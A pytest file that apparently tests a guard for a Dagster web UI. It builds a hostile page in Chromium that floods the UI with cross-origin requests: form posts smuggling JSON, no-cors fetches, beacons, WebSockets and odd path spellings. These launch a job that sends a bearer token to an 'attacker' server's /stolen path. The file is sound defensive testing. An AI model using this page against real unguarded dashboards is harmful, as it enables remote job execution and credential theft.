"""A hostile page in a real Chromium, open beside the UI, tries every way a browser has to send.

The page is on an origin of its own and the UI has no login, so that whatever the browser sends is
obeyed unless the guard refuses it. The stock webserver is visited first: it shows that the page
works.
"""

from __future__ import annotations

import http.server
import json
import shutil
import socketserver
import threading
import time
from collections.abc import Iterator
from contextlib import contextmanager
from html import escape
from pathlib import Path
from urllib.parse import quote, urlencode, urlsplit

import pytest
from playwright.sync_api import Response, sync_playwright

from tests.automation.webservers import GUARDED, LIMIT, STOCK, Server, running
from tests.chance import drawn, parametrized
from tests.leaderboard.browser import ARGUMENTS, NAMES

pytestmark = [pytest.mark.ui, pytest.mark.slow, pytest.mark.timeout(420)]
WORKSPACE = """
import urllib.request
from dagster import Config, Definitions, job, op

class Where(Config):
    address: str

@op
def call(config: Where):
    urllib.request.urlopen(urllib.request.Request(
        config.address, headers={"Authorization": "Bearer marked"}), timeout=10)

@job
def benchmark(): call()

defs = Definitions(jobs=[benchmark])
"""
LAUNCH = "mutation($p: ExecutionParams!){launchRun(executionParams:$p){__typename}}"
OTHER_SPELLINGS = ["/graphql/", "/graphql%0A", "/graphql%0D%0A", "//graphql", "/%67raphql"]
SPELLINGS = ["/graphql", *drawn("spellings of the address", OTHER_SPELLINGS, 2)]


class Attacker:
    """A web server of the attacker's: his page, and a list of who else called."""

    def __init__(self) -> None:
        self.page = ""
        self.got: list[str] = []
        attacker = self

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                if self.path.startswith("/page"):
                    body = attacker.page.encode()
                else:
                    body = b"{}"
                    attacker.got.append(f"{self.path} {self.headers.get('Authorization')}")
                self.send_response(200)
                self.send_header("Content-Type", "text/html")
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            def log_message(self, format: str, *args: object) -> None: ...

        self.server = socketserver.ThreadingTCPServer(("127.0.0.1", 0), Handler)
        self.port: int = self.server.server_address[1]
        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)

    @contextmanager
    def up(self) -> Iterator[Attacker]:
        self.thread.start()
        try:
            yield self
        finally:
            self.server.shutdown()
            self.server.server_close()


def hostile_page(target: Server, attacker: Attacker) -> str:
    """Return a page that sends the two mutations in every way there is."""
    config = {"ops": {"call": {"config": {"address": f"http://127.0.0.1:{attacker.port}/stolen"}}}}
    selector = {
        "repositoryLocationName": "benchmark.py",
        "repositoryName": "__repository__",
        "pipelineName": "benchmark",
    }
    params = {"selector": selector, "runConfigData": json.dumps(config), "mode": "default"}
    posts = [
        {"query": LAUNCH, "variables": {"p": params}},
        {"query": LIMIT % 5},
    ]
    base = f"http://127.0.0.1:{target.port}"
    launch, limit = (
        urlencode({"query": post["query"], "variables": json.dumps(post.get("variables", {}))})
        for post in posts
    )
    gets = [f"{base}{path}?{limit}" for path in SPELLINGS]
    parts = [
        "<!doctype html><title>kittens</title><h1>kittens</h1>",
        _sent_by_script(base, gets, posts),
        # One way is enough for what starts a process each time.
        *(f'<img src="{escape(f"{base}{path}?{launch}", quote=True)}">' for path in SPELLINGS),
    ]
    for number, address in enumerate(gets):
        url = escape(address, quote=True)
        parts += [
            f'<img src="{url}&n=1"><script src="{url}&n=2"></script>',
            f'<link rel="stylesheet" href="{url}&n=3"><link rel="prefetch" href="{url}&n=4">',
            f'<iframe src="{url}&n=5"></iframe><object data="{url}&n=6"></object>',
            f'<video src="{url}&n=7"></video><embed src="{url}&n=8">',
            f"<iframe name=f{number}></iframe>",
        ]
    forms = []
    for post in posts:
        text = json.dumps(post)
        for kind in ("text/plain", "application/x-www-form-urlencoded", "multipart/form-data"):
            # With text/plain the name and the value make one JSON document, split at an "=".
            name, _, value = (text[:-1] + ', "x": "=y"}').partition("=")
            fields = {name: value} if kind == "text/plain" else {"query": str(post["query"])}
            inputs = "".join(
                f'<input name="{escape(key, quote=True)}" value="{escape(given, quote=True)}">'
                for key, given in fields.items()
            )
            number = len(forms)
            parts.append(f"<iframe name=p{number}></iframe>")
            forms.append(
                f'<form method=post target=p{number} enctype="{kind}" action="{base}/graphql">'
                f"{inputs}</form>"
            )
    parts += forms
    parts.append(
        f"""<script>
document.querySelectorAll("form").forEach(form => form.submit());
{json.dumps(gets)}.forEach(get => window.open(get + "&n=12"));
fetch("/done");
</script>"""
    )
    return "".join(parts)


def _sent_by_script(base: str, gets: list[str], posts: list[dict[str, object]]) -> str:
    return f"""<script>
const gets = {json.dumps(gets)}, posts = {json.dumps(posts)}.map(JSON.stringify);
const url = {json.dumps(base + "/graphql")}, quiet = () => {{}};
const socket = new WebSocket(url.replace("http", "ws"), "graphql-ws");
socket.onopen = () => posts.forEach((post, n) => {{
  fetch("/socket-open");
  socket.send(JSON.stringify({{type: "connection_init"}}));
  socket.send(JSON.stringify({{type: "start", id: "" + n, payload: JSON.parse(post)}}));
}});
for (const post of posts) {{
  for (const type of ["text/plain", "text/plain; application/json", "application/json",
                      "application/graphql", "multipart/form-data; x=application/json"]) {{
    const headers = {{"Content-Type": type}};
    for (const mode of ["cors", "no-cors"])
      fetch(url, {{method: "POST", mode, body: post, headers, keepalive: true}}).catch(quiet);
    navigator.sendBeacon(url, new Blob([post], {{type}}));
  }}
  for (const query of [post, {json.dumps(quote(LIMIT % 5))}])
    fetch(url + "?query=" + query, {{method: "POST", mode: "no-cors"}}).catch(quiet);
}}
fetch({json.dumps(base + "/server_info")}).then(a => a.text())
  .then(text => fetch("/read?" + text)).catch(quiet);
for (const get of gets) {{
  fetch(get + "&n=9", {{mode: "no-cors", credentials: "include"}}).catch(quiet);
  fetch(get + "&n=10", {{method: "HEAD", mode: "no-cors"}}).catch(quiet);
}}
</script>"""


@contextmanager
def visited(folder: Path, module: str) -> Iterator[tuple[Server, Attacker]]:
    """A webserver with a job of its own, after a browser beside it has been to the hostile page."""
    found = next(filter(None, map(shutil.which, NAMES)), None)
    if found is None:
        pytest.skip("NO CHROMIUM: the guard was not tested with a browser; install `chromium`")
    (folder / "benchmark.py").write_text(WORKSPACE)
    options = ("-f", str(folder / "benchmark.py"))
    with (
        Attacker().up() as attacker,
        running(folder / "home", *options, module=module, queued=False) as server,
    ):
        assert "errors" not in server.graphql(LIMIT % 3)[1]
        attacker.page = hostile_page(server, attacker)
        with sync_playwright() as playwright:
            browser = playwright.chromium.launch(executable_path=found, args=ARGUMENTS)
            page = browser.new_page()
            page.goto(f"http://localhost:{attacker.port}/page", wait_until="commit")
            deadline_s = time.monotonic() + 90
            while "/done None" not in attacker.got and time.monotonic() < deadline_s:
                page.wait_for_timeout(500)
            page.wait_for_timeout(8_000)
            # The way out that is left: the browser itself is led there.
            for address in (
                f"/graphql?query={quote(LIMIT % 5)}",
                "/graphql%0A?query=" + quote(LIMIT % 5),
            ):
                # The page leads itself: a script run from outside races with the navigation.
                target = json.dumps(f"http://127.0.0.1:{server.port}{address}")
                attacker.page = f"<script>location.href = {target}</script>"
                page.goto(f"http://localhost:{attacker.port}/page?x", wait_until="commit")
                page.wait_for_timeout(2_000)
            browser.close()
        yield server, attacker


def test_the_page_robs_the_stock_webserver(tmp_path: Path) -> None:
    with visited(tmp_path, STOCK) as (server, attacker):
        deadline_s = time.monotonic() + 90
        while "/stolen Bearer marked" not in attacker.got and time.monotonic() < deadline_s:
            time.sleep(1)
        assert {"/stolen Bearer marked", "/socket-open None"} <= set(attacker.got)
        assert server.limit() == 5


def test_beside_the_guard_nothing_happens(tmp_path: Path) -> None:
    with visited(tmp_path, GUARDED) as (server, attacker):
        assert server.limit() == 3
        runs = server.graphql("{ runsOrError { ... on Runs { results { id } } } }")[1]
        assert json.loads(runs)["data"]["runsOrError"]["results"] == []
        # The attacker hears from his own page only, and reads nothing of the UI.
        assert {got.split()[0] for got in attacker.got if "favicon" not in got} == {"/done"}
        assert "Traceback" not in server.log.read_text()


OPTIONS = [[], ["--read-only", "--path-prefix", "/ui"]]
PAGES = [
    "/",
    "/overview/activity/timeline",
    "/runs",
    "/runs-feed",
    "/assets",
    "/jobs",
    "/automation",
    "/locations",
    "/deployment/daemons",
    "/deployment/concurrency",
    "/locations/benchmark.py/jobs/benchmark",
    "/locations/benchmark.py/jobs/benchmark/playground",
    "/asset-groups",
    "/graphql",
]


@pytest.mark.parametrize("options", parametrized("options of the UI", OPTIONS, 1), ids=repr)
def test_the_ui_itself_works_behind_the_guard(tmp_path: Path, options: list[str]) -> None:
    found = next(filter(None, map(shutil.which, NAMES)), None)
    if found is None:
        pytest.skip("NO CHROMIUM: the guarded UI was not tested in a browser; install `chromium`")
    (tmp_path / "benchmark.py").write_text(WORKSPACE)
    prefix = "/ui" if "/ui" in options else ""
    sent, bad, frames = [], [], []
    with (
        running(tmp_path / "home", "-f", str(tmp_path / "benchmark.py"), *options) as server,
        sync_playwright() as playwright,
    ):
        browser = playwright.chromium.launch(executable_path=found, args=ARGUMENTS)
        page = browser.new_page()

        def look(answer: Response) -> None:
            if urlsplit(answer.url).port == server.port:
                sent.append(answer.url)
                if answer.status >= 400:
                    asked = (answer.request.post_data or "")[:200]
                    bad.append(f"{answer.status} {answer.url} {asked}")

        page.on("response", look)
        page.on(
            "websocket",
            lambda socket: socket.on("framereceived", lambda frame: frames.append(str(frame))),
        )
        for path in drawn("pages of the UI", PAGES, 7):
            page.goto(f"http://127.0.0.1:{server.port}{prefix}{path}")
            page.wait_for_timeout(2_500)
        browser.close()
        assert bad == []
        assert sum("/graphql?op=" in url for url in sent) > 10
        assert any("connection_ack" in frame for frame in frames)
        assert not any('"error"' in frame for frame in frames)
        assert "Traceback" not in server.log.read_text()
